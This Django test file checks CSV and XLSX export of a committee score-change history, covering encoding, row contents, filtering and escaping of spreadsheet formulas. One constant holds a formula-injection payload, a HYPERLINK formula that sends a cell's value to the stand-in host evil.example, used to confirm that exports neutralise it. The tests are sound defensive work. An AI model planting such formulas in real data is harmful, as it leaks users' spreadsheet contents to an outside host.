import csv
import io

from django.urls import reverse
from openpyxl import load_workbook


def test_history_export_csv_has_bom_and_rows(client, judge, members, chair, chiang_mai):
    judge(members[0], chiang_mai, "4.1.1", points="3", note="ครบ")
    client.force_login(chair)
    response = client.get(reverse("admin:committee_scorechange_export") + "?format=csv")
    text = response.content.decode("utf-8")
    lines = text.splitlines()
    assert (response.status_code, text[0], len(lines)) == (200, "\ufeff", 2)
    assert lines[1].split(",")[1:8] == [
        "2566",
        "TH-50",
        "4.1.1",
        "คะแนนกรรมการ / member's score",
        members[0].username,
        "",
        "3.00",
    ]


def test_history_export_xlsx_respects_filters(client, judge, members, central_user, chiang_mai, phuket):
    judge(members[0], chiang_mai, "4.1.1", points="3")
    judge(members[0], phuket, "4.1.1", points="5")
    client.force_login(central_user)
    response = client.get(reverse("admin:committee_scorechange_export") + "?province=TH-83&format=xlsx")
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert (len(rows), rows[1][2], rows[1][7]) == (2, "TH-83", "5.00")


HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'


def test_history_export_csv_neutralises_formula_in_note(client, judge, members, chair, chiang_mai):
    judge(members[0], chiang_mai, "4.1.1", points="3", note=HOSTILE_NOTE)
    client.force_login(chair)
    response = client.get(reverse("admin:committee_scorechange_export") + "?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][10] == "'" + HOSTILE_NOTE


def test_history_export_xlsx_neutralises_formula_in_note(client, judge, members, chair, chiang_mai):
    judge(members[0], chiang_mai, "4.1.1", points="3", note=HOSTILE_NOTE)
    client.force_login(chair)
    response = client.get(reverse("admin:committee_scorechange_export") + "?format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=11)
    assert (cell.data_type, cell.value) == ("s", "'" + HOSTILE_NOTE)
